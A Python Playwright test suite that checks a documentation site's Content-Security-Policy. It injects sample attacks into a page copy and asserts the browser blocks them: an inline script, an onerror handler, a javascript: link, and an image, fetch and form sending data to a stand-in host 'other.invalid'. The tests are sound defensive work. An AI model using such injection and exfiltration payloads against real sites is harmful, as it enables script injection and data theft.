"""Quality gate: every page carries a Content-Security-Policy, breaks none of it, and stops a
script that does not belong.

The real edition is built for the origin it is served from, so that Material's instant
navigation is on as it is for readers (it swaps the page's content and runs its scripts
again). One page of every kind is opened in Chromium, search is opened (its worker and
index load then), and a link is followed by instant navigation; every
`securitypolicyviolation` event and console message about the policy is recorded. Then a
copy of a page with an inline script, an event handler and a `javascript:` link put into it
(what escaping keeps out of the source) shows that the browser refuses all three.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Response

from site_tests.support.build import FIXTURES
from site_tests.support.gates import MISSING, wait_for_search
from site_tests.support.live import serving

RECORD = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(`${e.effectiveDirective} blocked ${e.blockedURI || "inline"}: ${e.sample}`);
});
"""
# Marks a link of the navigation to another page, for the click that navigates instantly.
NEXT = """() => {
  const link = [...document.querySelectorAll("a.md-nav__link[href]")]
    .find((a) => a.href.startsWith(location.origin) && !a.href.includes("#") && a.href !== location.href);
  link.id = "csp-next";
  document.querySelector("article").dataset.cspOld = "yes";
  return link.href;
}"""
# The next page is in: its address, and an article that is not the one marked above.
ARRIVED = """(url) => location.href === url && document.readyState === "complete"
  && document.querySelector("article") && !document.querySelector("article[data-csp-old]")"""
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


@pytest.fixture(scope="module")
def origin(instant_origin: tuple[str, Path]) -> tuple[str, Path]:
    """The site of source/ served from its own origin (conftest.py); the tests that put a
    hostile page into it take the page out again."""
    return instant_origin


def _kinds(site: Path) -> list[str | None]:
    """One page of every kind the edition has, and the 404 page (reached as a missing address);
    None for a kind the edition has no page of (a text without recitals)."""

    def first(folder: str) -> str | None:
        pages = sorted(p.name for p in (site / folder).iterdir() if p.is_dir()) if (site / folder).is_dir() else []
        return f"{folder}/{pages[0]}/" if pages else None

    return [
        "",
        "text/",
        first("sections"),
        first("paragraphs"),
        first("recitals"),
        "instruments/",
        first("instruments"),
        "glossary/",
        "actors/",
        first("actors"),
        "verbs/",
        "about/urls/",
        MISSING,
    ]


def _open(browser: Browser, url: str) -> tuple[BrowserContext, Page, list[str], Response | None]:
    context = browser.new_context()
    context.add_init_script(RECORD)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text) if "Content Security Policy" in m.text else None)
    response = page.goto(url, wait_until="load")
    return context, page, console, response


def test_every_html_file_carries_the_policy(origin: tuple[str, Path]) -> None:
    _, site = origin
    missing = [str(p.relative_to(site)) for p in site.rglob("*.html") if not POLICY.search(p.read_text("utf-8"))]
    assert not missing, f"pages without a Content-Security-Policy: {missing[:10]}"
    found = POLICY.search((site / "404.html").read_text("utf-8"))
    assert found is not None, "404.html has no policy"
    policy = found.group(1)
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["script-src"].startswith("'self' 'sha256-") and "unsafe-inline" not in directives["script-src"]
    # Everything else from the site itself; forms send only to it.
    assert directives["default-src"] == "'self'" and directives["form-action"] == "'self'"
    assert directives["img-src"] == "'self' data:" and directives["object-src"] == "'none'"


@pytest.mark.parametrize("kind", range(13), ids=lambda i: f"kind{i}")
def test_no_policy_violation_on_any_kind_of_page(browser: Browser, origin: tuple[str, Path], kind: int) -> None:
    base, site = origin
    url = _kinds(site)[kind]
    if url is None:
        pytest.skip("the edition in source/ has no page of this kind (a text without recitals, say)")
    context, page, console, response = _open(browser, base + url)
    try:
        assert response is not None and response.status == (404 if url == MISSING else 200)
        assert page.evaluate("typeof window.document$") == "object", "Material's scripts did not run"
        if page.locator(".md-search__input").count():
            page.focus(".md-search__input")  # the deferred search worker and index load now
            wait_for_search(page, response)
            page.keyboard.press("Escape")
        # Instant navigation: Material fetches the next page, swaps it in and runs its scripts.
        target = page.evaluate(NEXT)
        page.click("#csp-next")
        page.wait_for_function(ARRIVED, arg=target)
        violations = page.evaluate("window.__csp")
    finally:
        context.close()
    assert not violations and not console, f"/{url}: {violations + console}"


def test_an_injected_inline_script_handler_and_javascript_link_are_blocked(
    browser: Browser, origin: tuple[str, Path]
) -> None:
    base, site = origin
    html = (site / "paragraphs" / "1" / "index.html").read_text("utf-8")
    hostile = (
        '<script>window.__injected = "script";</script>'
        '<img src="../../no-such-image.png" alt="" onerror="window.__injected = \'onerror\'">'
        '<a id="js-link" href="javascript:window.__injected = \'link\'">run</a>'
    )
    assert html.count("<article") == 1
    injected = site / "injected" / "index.html"
    injected.parent.mkdir()
    injected.write_text(re.sub(r"(<article[^>]*>)", lambda m: m.group(1) + hostile, html), "utf-8")
    context, page, console, _ = _open(browser, base + "injected/")
    try:
        page.wait_for_function("() => window.__csp.length >= 2")
        page.click("#js-link")
        page.wait_for_function("() => window.__csp.length >= 3")
        ran = page.evaluate("window.__injected")
        violations = page.evaluate("window.__csp")
    finally:
        context.close()
        injected.unlink()
        injected.parent.rmdir()
    assert ran is None, f"the injected {ran} ran"
    # The inline script and the javascript: link (script-src-elem), the onerror handler (-attr).
    directives = sorted(v.split(" ", 1)[0] for v in violations)
    assert directives == ["script-src-attr", "script-src-elem", "script-src-elem"], violations
    assert console, "Chromium says why it refused them"


def test_an_injected_image_request_and_form_to_another_site_are_blocked(
    browser: Browser, origin: tuple[str, Path]
) -> None:
    """`default-src 'self'` and `form-action 'self'`: what text that escaped its escaping could
    send out (an image or a request carrying data, a form's fields) goes nowhere."""
    base, site = origin
    html = (site / "paragraphs" / "1" / "index.html").read_text("utf-8")
    hostile = (
        '<img id="x-img" src="http://other.invalid/pixel.png?leak=1" alt="">'
        '<form id="x-form" action="http://other.invalid/collect" method="get"><input name="q" value="1"></form>'
    )
    injected = site / "injected-requests" / "index.html"
    injected.parent.mkdir()
    injected.write_text(re.sub(r"(<article[^>]*>)", lambda m: m.group(1) + hostile, html), "utf-8")
    context, page, console, _ = _open(browser, base + "injected-requests/")
    try:
        page.wait_for_function("() => window.__csp.length >= 1")
        page.evaluate("fetch('http://other.invalid/data').catch(() => null)")
        page.wait_for_function("() => window.__csp.length >= 2")
        page.evaluate("document.getElementById('x-form').requestSubmit()")
        page.wait_for_function("() => window.__csp.length >= 3")
        violations = page.evaluate("window.__csp")
    finally:
        context.close()
        injected.unlink()
        injected.parent.rmdir()
    directives = sorted(v.split(" ", 1)[0] for v in violations)
    assert directives == ["connect-src", "form-action", "img-src"], violations
    assert console, "Chromium says why it refused them"


def test_the_pages_own_style_elements_apply_and_an_injected_one_is_blocked(
    browser: Browser, origin: tuple[str, Path]
) -> None:
    """The palette's rules and the plugin's stylesheet are <style> elements in the head,
    allowed by their hashes; a <style> no template wrote (what escaping keeps out of the
    source) is refused, so it cannot hide or restyle the text."""
    base, site = origin
    html = (site / "paragraphs" / "1" / "index.html").read_text("utf-8")
    linked = re.findall(r'<link rel="stylesheet" href="([^"]+)"', html)
    assert len(linked) == 1 and "/main." in linked[0], linked  # Material's; the rest is inline
    injected = site / "injected-style" / "index.html"
    injected.parent.mkdir()
    hostile = "<style>article { display: none }</style>"
    injected.write_text(re.sub(r"(<article[^>]*>)", lambda m: m.group(1) + hostile, html), "utf-8")
    context, page, console, _ = _open(browser, base + "injected-style/")
    try:
        page.wait_for_function("() => window.__csp.length >= 1")
        shown = page.evaluate("getComputedStyle(document.querySelector('article')).display")
        # The plugin's stylesheet: the document line is smaller than the text (0.7rem).
        line = page.evaluate("getComputedStyle(document.querySelector('.doc-line')).fontSize")
        # The palette's rule for this site's primary colour in the dark scheme.
        link = page.evaluate(
            """() => {
              document.body.setAttribute("data-md-color-scheme", "slate");
              return getComputedStyle(document.body).getPropertyValue("--md-typeset-a-color").trim();
            }"""
        )
        violations = page.evaluate("window.__csp")
    finally:
        context.close()
        injected.unlink()
        injected.parent.rmdir()
    assert shown != "none", "the injected style applied"
    assert [v.split(" ", 1)[0] for v in violations] == ["style-src-elem"], violations
    assert console, "Chromium says why it refused it"
    assert line == "14px", line
    assert link == "#5488e8", link


def test_live_reload_runs_under_mkdocs_serve(browser: Browser, tmp_path: Path) -> None:
    """MkDocs injects an inline script into every page it serves; the plugin allows it by hash."""
    source = tmp_path / "mini"
    shutil.copytree(FIXTURES / "mini", source)
    with serving(source, tmp_path) as served:
        context, page, console, response = _open(browser, served.base + "paragraphs/1/")
        try:
            assert response is not None and response.status == 200
            page.wait_for_function("() => typeof window.livereload === 'function'")
            violations = page.evaluate("window.__csp")
        finally:
            context.close()
    assert not violations and not console, violations + console
